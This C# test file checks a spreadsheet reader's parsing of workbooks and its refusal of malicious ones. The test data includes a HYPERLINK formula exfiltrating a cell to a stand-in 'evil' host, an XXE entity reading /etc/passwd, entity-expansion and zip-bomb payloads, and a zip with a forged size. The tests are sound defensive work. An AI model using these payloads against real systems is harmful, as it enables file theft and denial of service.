using System.IO.Compression;
using System.Text;
using Hourglass.Exchange.Reading;
using MiniExcelLibs;

namespace Hourglass.Tests.Exchange.Reading;

public sealed class AWorkbook
{
    private static readonly string Header = $"<row r=\"1\">{Tables.Inline("A1", "name")}{Tables.Inline("B1", "sum")}{Tables.Inline("C1", "day")}</row>";

    private static string Data(params string[] rows) => $"<sheetData>{Header}{string.Concat(rows)}</sheetData>";

    [Fact]
    public async Task Is_read_with_shared_texts_numbers_days_and_booleans()
    {
        var stream = new MemoryStream();
        await stream.SaveAsAsync(new[] { new { Имя = "Пётр", Сумма = 1054.5m, Дата = new DateTime(2017, 3, 1), Телефон = 79991234567L, Да = true } });
        var sheet = await SheetReader.OpenAsync(stream);
        var row = Assert.Single(await sheet.RowsAsync().ToListAsync());

        Assert.Equal(SheetKind.Workbook, sheet.Kind);
        Assert.Equal(["Имя", "Сумма", "Дата", "Телефон", "Да"], sheet.Columns.Select(c => c.Name));
        Assert.Equal(["Пётр", "1054.5", "2017-03-01", "79991234567", "TRUE"], row.Cells);
        Assert.Equal(2, row.Number);
    }

    [Fact]
    public async Task Gives_the_value_of_a_formula_and_never_the_formula()
    {
        var rows = await SheetReader.OpenAsync(Tables.Workbook(Data("""
            <row r="2"><c r="A2" t="str"><f>HYPERLINK("http://evil/?"&amp;A1)</f><v>click</v></c><c r="B2"><f>1+1</f><v>2</v></c><c r="C2" t="inlineStr"><is><t>=1+1</t></is></c></row>
            """))).RowsAsync();
        Assert.Equal(["click", "2", "=1+1"], rows[0].Cells);
    }

    [Fact]
    public async Task Keeps_the_row_numbers_a_person_sees_over_gaps()
    {
        var rows = await SheetReader.OpenAsync(Tables.Workbook(Data(
            "<row r=\"2\"><c r=\"A2\"><v>1</v></c></row>", "<row r=\"7\"><c r=\"B7\"><v>2</v></c></row>", "<row r=\"9\"/>"))).RowsAsync();
        Assert.Equal([2, 7], rows.Select(r => r.Number));
        Assert.Equal(["", "2", ""], rows[1].Cells);
        Assert.All(rows, row => Assert.Null(row.Problem));
    }

    [Theory]
    [InlineData("", "2014-12-27")]
    [InlineData("<workbookPr date1904=\"1\"/>", "2018-12-28")]
    public async Task Counts_days_by_its_own_calendar(string properties, string day)
    {
        var rows = await SheetReader.OpenAsync(Tables.Workbook(
            Data("<row r=\"2\"><c r=\"A2\"><v>1</v></c><c r=\"B2\" s=\"2\"><v>42000.5</v></c><c r=\"C2\" s=\"1\"><v>42000</v></c></row>"), properties: properties)).RowsAsync();
        Assert.Equal(day, rows[0].Cells[2]);
        Assert.Equal(day + " 12:00:00", rows[0].Cells[1]);
    }

    [Fact]
    public async Task Ignores_formatting_far_out_to_the_right_and_below()
    {
        var sheet = await SheetReader.OpenAsync(Tables.Workbook("<dimension ref=\"A1:XFD1048576\"/>" + Data(
            "<row r=\"2\"><c r=\"A2\"><v>1</v></c><c r=\"XFD2\" s=\"1\"/></row>", "<row r=\"1048576\"><c r=\"A1048576\" s=\"1\"/></row>")));
        Assert.Equal(3, sheet.Columns.Count);
        Assert.Single(await sheet.RowsAsync().ToListAsync());
    }

    [Fact]
    public async Task Opens_the_worksheet_asked_for_and_lists_the_others()
    {
        var stream = new MemoryStream();
        await stream.SaveAsAsync(new Dictionary<string, object> { ["Один"] = new[] { new { A = 1 } }, ["Два"] = new[] { new { B = 2 } } });
        var sheet = await SheetReader.OpenAsync(stream, new SheetChoices(Worksheet: "Два"));
        Assert.Equal(["Один", "Два"], sheet.Worksheets);
        Assert.Equal("B", sheet.Columns[0].Name);
        Assert.Equal("sheet.no-such-worksheet", (await SheetReader.OpenAsync(stream, new SheetChoices(Worksheet: "Три")).RefusalOf()).Code);
    }

    [Fact]
    public async Task May_have_titles_above_its_header()
    {
        var choices = new SheetChoices(HeaderRow: 3);
        var sheet = await SheetReader.OpenAsync(Tables.Workbook(
            $"<sheetData><row r=\"1\">{Tables.Inline("A1", "Report")}</row><row r=\"3\">{Tables.Inline("A3", "name")}{Tables.Inline("B3", "sum")}</row>"
            + "<row r=\"4\"><c r=\"B4\"><v>5</v></c></row></sheetData>"), choices);
        Assert.Equal(["name", "sum"], sheet.Columns.Select(c => c.Name));
        Assert.Equal(["", "5"], Assert.Single(await sheet.RowsAsync().ToListAsync()).Cells);
    }

    [Theory]
    [InlineData("<sheetData/>", "sheet.empty")]
    [InlineData("<sheetData><row r=\"1\"><c r=\"A1\"><v>1</v></c></row></sheetData>", "sheet.header-only")]
    [InlineData("<!DOCTYPE worksheet [<!ENTITY x SYSTEM \"file:///etc/passwd\">]><worksheet>&x;</worksheet>", "sheet.damaged")]
    [InlineData("<!DOCTYPE w [<!ENTITY a \"ha\"><!ENTITY b \"&a;&a;&a;\">]><worksheet>&b;</worksheet>", "sheet.damaged")]
    [InlineData("<sheetData><row r=\"2147483647\"><c><v>1</v></c></row></sheetData>", "sheet.damaged")]
    [InlineData("<sheetData><row r=\"5\"/><row r=\"5\"/></sheetData>", "sheet.damaged")]
    [InlineData("<sheetData><row r=\"1\"><c r=\"XFD1\"><v>1</v></c></row></sheetData>", "sheet.too-many-columns")]
    [InlineData("<sheetData><row r=\"1\"><c r=\"A1\"><v>1</v></c></row><row r=\"1048576\"><c r=\"SF1048576\"><v>1</v></c></row></sheetData>", "sheet.too-sparse")]
    [InlineData("<sheetData><row", "sheet.damaged")]
    public async Task Is_refused_when_its_sheet_is_a_trap(string sheet, string code) =>
        Assert.Equal(code, (await SheetReader.OpenAsync(Tables.Workbook(sheet)).RefusalOf()).Code);

    [Fact]
    public async Task Is_refused_when_the_upload_was_cut_in_half()
    {
        var whole = Tables.Workbook(Data("<row r=\"2\"><c r=\"A2\"><v>1</v></c></row>")).ToArray();
        Assert.Equal("sheet.damaged", (await SheetReader.OpenAsync(new MemoryStream(whole[..(whole.Length / 2)])).RefusalOf()).Code);
    }

    [Fact]
    public async Task Is_refused_when_a_cell_or_a_shared_text_is_too_long()
    {
        var limits = new SheetLimits { FieldLength = 10_000, RowBytes = 100_000 };
        var own = Tables.Workbook(Data($"<row r=\"2\">{Tables.Inline("B2", new string('x', 20_000))}</row>"));
        var refusal = await SheetReader.OpenAsync(own, limits: limits).RefusalOf();
        Assert.Equal(("sheet.field-too-long", 2, "B"), (refusal.Code, refusal.Details[0], refusal.Details[1]));

        var twice = string.Concat(Enumerable.Range(0, 20).Select(i => $"<c r=\"{SheetColumn.LetterOf(i)}2\" t=\"s\"><v>0</v></c>"));
        var heavy = Tables.Workbook(Data($"<row r=\"2\">{twice}</row>"), zip => zip.Put("xl/sharedStrings.xml", $"<sst><si><t>{new string('x', 9_000)}</t></si></sst>"));
        Assert.Equal("sheet.row-too-long", (await SheetReader.OpenAsync(heavy, limits: limits).RefusalOf()).Code);

        var shared = Tables.Workbook(Data(), zip => zip.Put("xl/sharedStrings.xml", $"<sst><si><r><t>{new string('x', 60_000)}</t></r><r><t>{new string('x', 60_000)}</t></r></si></sst>"));
        Assert.Equal("sheet.shared-text-too-long", (await SheetReader.OpenAsync(shared, limits: limits).RefusalOf()).Code);
    }

    [Fact]
    public async Task Is_refused_when_it_would_unpack_into_far_more_than_it_is()
    {
        var bomb = Tables.Workbook(Data(), zip =>
        {
            using var part = zip.CreateEntry("xl/sharedStrings.xml").Open();
            for (var i = 0; i < 40; i++) part.Write(new byte[1 << 20]);
        });
        Assert.True(bomb.Length < 60_000);
        Assert.Equal("sheet.zip-bomb", (await SheetReader.OpenAsync(bomb).RefusalOf()).Code);
        Assert.Equal("sheet.zip-bomb", (await SheetReader.OpenAsync(bomb, limits: new SheetLimits { UnpackedBytes = 1000, UnpackedRatio = 5000 }).RefusalOf()).Code);
    }

    [Fact]
    public async Task Is_refused_when_one_tag_alone_would_fill_the_memory()
    {
        var sheet = Tables.Workbook($"<sheetData><row r=\"1\" spans=\"{string.Concat(Enumerable.Range(0, 30_000).Select(i => i * 7919))}\"/></sheetData>");
        Assert.Equal("sheet.zip-bomb", (await SheetReader.OpenAsync(sheet).RefusalOf()).Code);
    }

    [Fact]
    public async Task Is_refused_when_it_lies_about_its_unpacked_size()
    {
        var bytes = Tables.Workbook(Data("<row r=\"2\"><c r=\"A2\"><v>1</v></c></row>"), zip => zip.Put("xl/sharedStrings.xml", new string(' ', 3_000_000))).ToArray();
        var directory = bytes.AsSpan().LastIndexOf("xl/sharedStrings.xml"u8) - 46;
        BitConverter.TryWriteBytes(bytes.AsSpan(directory + 24), 10);
        Assert.Equal("sheet.damaged", (await SheetReader.OpenAsync(new MemoryStream(bytes)).RefusalOf()).Code);
    }

    [Fact]
    public async Task Does_not_follow_links_to_other_parts_or_files()
    {
        var rows = await SheetReader.OpenAsync(Tables.Workbook(
            Data($"<row r=\"2\">{Tables.Inline("A2", "@@@fileid@@@,xl/workbook.xml")}</row>"),
            zip => zip.Put("xl/externalLinks/externalLink1.xml", "<externalLink/>"))).RowsAsync();
        Assert.Equal("@@@fileid@@@,xl/workbook.xml", rows[0].Cells[0]);
    }

    [Fact]
    public async Task Is_known_by_its_bytes_whatever_its_name()
    {
        var path = Path.GetTempFileName();
        try
        {
            await File.WriteAllBytesAsync(path, Tables.Workbook(Data("<row r=\"2\"><c r=\"A2\"><v>1</v></c></row>")).ToArray());
            Assert.Equal(SheetKind.Workbook, (await SheetReader.OpenAsync(path)).Kind);
        }
        finally
        {
            File.Delete(path);
        }
    }
}
